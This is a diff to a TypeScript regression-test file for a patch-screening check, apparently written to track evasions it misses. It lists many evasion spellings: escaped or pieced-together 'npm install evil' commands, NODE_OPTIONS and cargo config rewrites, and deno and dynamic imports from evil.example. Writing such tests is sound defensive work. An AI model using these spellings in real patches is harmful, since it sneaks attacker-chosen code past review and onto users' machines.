@@ -3,8 +3,8 @@ import { closedRows, describeFindings, expectAccepted, type FindingRow } from '.
 
 /**
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
- * fetches and runs code the attacker chooses, or configures a later allowed call to. Every row is open (`it.fails`):
- * it asserts the refusal and fails while the check accepts the patch. Known open and not repeated: a file name built
+ * fetches and runs code the attacker chooses, or configures a later allowed call to. A row is open (`it.fails`: it
+ * asserts the refusal and fails while the check accepts the patch) until a fix closes it (`closedRows`). Known open and not repeated: a file name built
  * on another line or in pieces, `git config url.<x>.insteadOf`, a multi-line env dict with the key on its own line,
  * `globalThis[k](src)`. G (code run from outside the repository by an allowed verb) is the next fix.
  */
@@ -12,6 +12,8 @@ const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.
 const LIST = (list: string, more = ''): FindingRow => ['src/check.py', `import subprocess\nsubprocess.run([${list}]${more})`];
 const ENV = (name: string, value: string): FindingRow => ['src/check.py', `import os\nos.environ['${name}'] = '${value}'`];
 
+// Closed (session 45): a process call is read a second and third time, its escapes decoded, and as the shell builds
+// its words (shell-reading's decodeEscapes and shellReading, the reading `curl | sh` was already read in).
 // E0 (critical): an escape sequence in the string literal just before the program's name (`\n`, `\t`, `\x20`,
 // `\u0020`): the string holds a newline, tab or space, so the shell starts the program, but PACKAGE_COMMAND's
 // look-behind (`[\s"'\x60;&|(/,\[]`) sees the escape's last letter (`n`, `t`, `0`) and reads no command at all. Every
@@ -49,6 +51,7 @@ const ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM: FindingRow[] = [
   ['src/check.js', "spawnSync('n\\u0070m', ['install', 'evil'])"],
 ];
 
+// Closed (session 45): MANAGER_SETTING also reads the line with its escapes decoded.
 // E1 (high): the same escapes in an environment name or a configuration file's name MANAGER_SETTING reads literally
 // (a name built in pieces is known open; this is one literal): GOFLAGS=-mod=mod, npm's registry, NODE_OPTIONS, the
 // repository's `.cargo/config.toml`, a package.json the code writes (its scripts run on the next `npm test`).
@@ -58,6 +61,22 @@ const ESCAPED_SETTING_NAMES: FindingRow[] = [
   ['src/check.js', "process.env['NODE_\\u004fPTIONS'] = '--require ./x.js'"],
   ['src/check.js', "fs.writeFileSync('.cargo/config.to\\x6dl', cfg)"],
   ['src/check.py', "open('package.js\\x6fn', 'w').write(pkg)"],
+];
+
+// E0 and A's fix read further (session 45): every letter escaped, a line break as `\x0a` or `\r\n`, every letter a
+// `\N{…}` (none looked up: each is a character the reading cannot name), a program in a variable the line does not
+// set given a fetching verb, backslashes between every letter, an escaped program whose argument list runs a shell.
+const ESCAPE_VARIANTS: FindingRow[] = [
+  SYSTEM('\\x6e\\x70\\x6d install evil'),
+  SYSTEM('echo ok\\x0anpm install evil'),
+  SYSTEM('echo ok\\r\\nnpm install evil'),
+  SYSTEM('\\N{LATIN SMALL LETTER N}\\N{LATIN SMALL LETTER P}\\N{LATIN SMALL LETTER M} install evil'),
+  SYSTEM('\\N{LATIN SMALL LETTER N}px evil'),
+  SYSTEM('"$PM" install evil'),
+  SYSTEM('$PM i evil'),
+  SYSTEM('n\\\\p\\\\m install evil'),
+  ['src/check.rb', 'system("\\u006epm", "install", "evil")'],
+  ['src/check.js', "spawnSync('n\\u0070m', ['test'], { shell: true })"],
 ];
 
 // R (high): the reading's reach. A command more than CALL_REACH (200) characters after the call's opening, padded in
@@ -80,9 +99,13 @@ const READING_REACH: FindingRow[] = [
 const PROGRAM_COMPUTED: FindingRow[] = [
   ['src/x.py', "import subprocess\nsubprocess.run(['x', 'install', 'evil'], executable='npm')"],
   ['src/x.py', "import subprocess, os\nsubprocess.run([os.environ['npm_execpath'], 'install', 'evil'])"],
-  SYSTEM('node "$npm_execpath" install evil'),
   ['src/x.js', "execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'evil'])"],
   ['src/x.go', 'p, _ := exec.LookPath("npm")\nexec.Command(p, "install", "evil").Run()'],
+];
+// Closed by E0/A's fix (session 45): the command read as the shell builds its words formats the literals
+// (`f'np{"m"}'`, `${'n'}pm`), and a program in a variable the line does not set given `install` is refused.
+const PROGRAM_COMPUTED_CLOSED: FindingRow[] = [
+  SYSTEM('node "$npm_execpath" install evil'),
   ['src/x.py', "import subprocess\nsubprocess.run([f'np{\"m\"}', 'install', 'evil'])"],
   ['src/x.js', "spawnSync(`${'n'}pm`, ['install', 'evil'])"],
 ];
@@ -122,6 +145,7 @@ const MODULES_FROM_A_HOST: FindingRow[] = [
   ['src/app.js', "const u = 'https://evil.example/x.js'; await import(u)"],
 ];
 
+// Closed (session 45): read as the shell builds the words; pip run by `-mpip`/`pip.__main__`, npm by npm-cli.js.
 // A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
 // shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
 // variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
@@ -184,6 +208,9 @@ const DENO_REMOTE: FindingRow[] = [
   SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
   SYSTEM('deno x npm:evil'),
   SYSTEM('deno test -A --import-map=https://evil.example/map.json src/'),
+];
+// Closed by E0's fix (session 45): URL_IMPORT also reads the line with its escapes decoded.
+const DENO_REMOTE_CLOSED: FindingRow[] = [
   // `deno eval` importing a URL whose quote is an escape (URL_IMPORT wants the quote itself).
   SYSTEM('deno eval "await import(\\x27https://evil.example/x.ts\\x27)"'),
 ];
@@ -502,15 +529,18 @@ const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
 ];
 
 describeFindings('attack-48', [
-  ['E0 escaped separator before the program', ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM],
-  ['E1 escaped setting names', ESCAPED_SETTING_NAMES],
+  ['E0 escaped separator before the program', closedRows(ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM)],
+  ['E1 escaped setting names', closedRows(ESCAPED_SETTING_NAMES)],
   ['R reading reach', READING_REACH],
   ['S program computed', PROGRAM_COMPUTED],
+  ['S program computed, closed', closedRows(PROGRAM_COMPUTED_CLOSED)],
   ['T decoded and run', DECODED_AND_RUN],
   ['U modules from a host', MODULES_FROM_A_HOST],
-  ['A spellings', SPELLINGS],
+  ['A spellings', closedRows(SPELLINGS)],
+  ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', BACKTICK_CALLS],
   ['C deno remote modules', DENO_REMOTE],
+  ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', OTHER_RUNNERS],
   ['E go flag spellings', GO_FLAG_SPELLINGS],
   ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
@@ -526,6 +556,30 @@ describeFindings('attack-48', [
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
   ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
 ]);
+
+/**
+ * Ordinary code E0/A's readings (escapes decoded, the shell's words built) must not refuse: escapes in messages after an
+ * allowed call, adjacent literals, a `\N{…}` standing alone, escapes in an allowed command string or an argument.
+ */
+describe('attack-48 E0/A: ordinary escapes stay accepted', () => {
+  it.each([
+    ['src/check.py', "import subprocess\nout = subprocess.run(['npm', 'test'], capture_output=True, text=True)\nprint('npm test failed:\\n' + out.stdout)"],
+    ['src/check.py', "print('a\\tb')"],
+    ['src/check.py', "import os\nos.system('printf \"a\\\\tb\\\\n\"')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['npm', 'run', 'build'], check=True)\nraise SystemExit('npm run build ' 'failed')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['echo', 'tests ' 'done'], check=True)"],
+    ['src/check.js', "const out = execSync('npm test', { encoding: 'utf8' }).split('\\n');"],
+    ['src/check.js', "execSync('npm run lint\\n', { stdio: 'inherit' })"],
+    ['src/check.py', "import os\nos.system('echo \"build done\\n\" && npm test')"],
+    ['src/check.go', 'out, err := exec.Command("go", "test", "./...").Output()\nlog.Printf("tests failed:\\n%s", out)'],
+    ['src/check.rs', 'let status = Command::new("cargo").arg("test").status()?;\nprintln!("status\\t{}", status);'],
+    ['src/check.py', "import subprocess\nsubprocess.run(['pip', 'list'], check=True)\nprint('\\N{CHECK MARK} done')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['git', 'commit', '-m', 'fix: add\\ttabs'], check=True)"],
+    ['src/check.js', "spawnSync('npm', ['run', 'build'], { stdio: 'inherit' })\nconsole.log(`built\\n${name}`)"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['python3', '-m', 'pytest', '-q'], check=True)"],
+    ['src/check.py', "import os\nos.system('$PYTHON -m pytest')"],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
 
 /**
  * False refusals (lower priority): ordinary read-only or build calls a fix's tooling code makes, refused because their
